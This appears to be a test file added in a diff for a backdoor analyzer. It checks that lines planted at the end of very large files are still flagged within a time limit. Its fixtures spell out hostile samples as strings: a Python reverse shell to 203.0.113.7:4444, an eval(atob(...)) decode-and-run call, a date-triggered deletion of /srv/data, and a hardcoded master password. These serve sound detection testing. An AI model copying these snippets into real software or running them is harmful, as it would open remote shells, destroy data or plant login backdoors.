@@ -1,0 +1,108 @@
+// Attacks on the backdoor analyzer's speed-ups (gates on words, shared per-file facts, cheaper loops):
+// huge files must be read in bounded time, and a gate must never let a planted line through because
+// it sits at the end of a huge file, past the words of everything before it. Each case runs twice:
+// before the scan's word automaton exists (a hook judging one write) and after (a scan worker).
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { SourceFile } from '../../src/analyzers/source.ts';
+import { analyzeBackdoors } from '../../src/analyzers/backdoor/index.ts';
+import { languageOf } from '../../src/analyzers/code/languages.ts';
+import { buildPrefilter } from '../../src/analyzers/literals.ts';
+
+/** (generous: the machine may be loaded; a quiet one takes a fraction of this) */
+const BOUND_MS = 4000;
+
+function timed(path: string, text: string): { rules: string[]; ms: number } {
+  const t0 = performance.now();
+  const found = analyzeBackdoors(new SourceFile(path, text, languageOf(path)));
+  return { rules: found.map((f) => `${f.ruleId}:${f.line}`), ms: performance.now() - t0 };
+}
+
+/** A 5 MB minified bundle: one line of short statements, the payload as its last statement. */
+function minified(payload: string): string {
+  const unit = 'var a0=function(b){return b+1},c0=[1,2,3].map(a0);if(c0.length>2){c0.push("x")}';
+  return unit.repeat(Math.ceil((5 * 1024 * 1024) / unit.length)) + payload;
+}
+
+/** A 20,000-line file of ordinary code, the planted lines at its end. */
+function long(line: (i: number) => string, planted: string[]): string {
+  return [...Array.from({ length: 20_000 - planted.length }, (_v, i) => line(i)), ...planted].join('\n');
+}
+
+const DECODE_EXEC = ';eval(atob("Y29uc29sZS5sb2coMSk="));';
+const cases: { name: string; path: string; text: () => string; expect: RegExp }[] = [
+  {
+    name: 'a 5 MB minified one-line bundle whose last statement runs decoded code',
+    path: 'dist/app.js',
+    text: () => minified(DECODE_EXEC),
+    expect: /^backdoor\.decode-exec:1$/,
+  },
+  {
+    name: 'a 20,000-line Python file whose last lines wire a socket to a shell',
+    path: 'tool/net.py',
+    text: () =>
+      long(
+        (i) => `value_${i} = compute(${i}, "item-${i}")`,
+        [
+          'import socket, subprocess, os',
+          's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
+          's.connect(("203.0.113.7", 4444))',
+          'os.dup2(s.fileno(), 0)',
+          'subprocess.call(["/bin/sh", "-i"])',
+        ],
+      ),
+    expect: /^backdoor\.reverse-shell:\d+$/,
+  },
+  {
+    name: 'a 20,000-line JavaScript file whose last function wipes the disk after a fixed date',
+    path: 'src/jobs.js',
+    text: () =>
+      long(
+        (i) => `const v${i} = [${i}, ${i + 1}].map((x) => x * 2);`,
+        [
+          "const fs = require('fs');",
+          'function tick() {',
+          '  if (Date.now() > 1798761600000) {',
+          "    fs.rmSync('/srv/data', { recursive: true, force: true });",
+          '  }',
+          '}',
+        ],
+      ),
+    expect: /^backdoor\.trigger-(?:effect|guard):19997$/,
+  },
+  {
+    name: 'a 20,000-line file whose last line compares a password with a literal',
+    path: 'src/auth.ts',
+    text: () =>
+      long(
+        (i) => `export const k${i}: number = ${i};`,
+        [
+          'export function login(user: string, password: string) {',
+          "  if (password === 'Tr0ub4dor&3x!') return true;",
+          '}',
+        ],
+      ),
+    expect: /^backdoor\.(?:master-password|constant-credential):19999$/,
+  },
+];
+
+for (const phase of ['before the word automaton is built', 'after it is built'] as const) {
+  for (const c of cases)
+    test(`${c.name} is analyzed within ${BOUND_MS / 1000} s and the planted line is found (${phase})`, () => {
+      if (phase === 'after it is built') buildPrefilter();
+      const { rules, ms } = timed(c.path, c.text());
+      assert.ok(
+        rules.some((r) => c.expect.test(r)),
+        `planted line not found: ${rules.join(', ') || 'no findings'}`,
+      );
+      assert.ok(ms < BOUND_MS, `took ${ms.toFixed(0)} ms`);
+    });
+}
+
+test('the same 20,000 ordinary lines without the planted ones give no finding (the near miss)', () => {
+  const { rules } = timed(
+    'src/jobs.js',
+    long((i) => `const v${i} = [${i}, ${i + 1}].map((x) => x * 2);`, []),
+  );
+  assert.deepEqual(rules, []);
+});
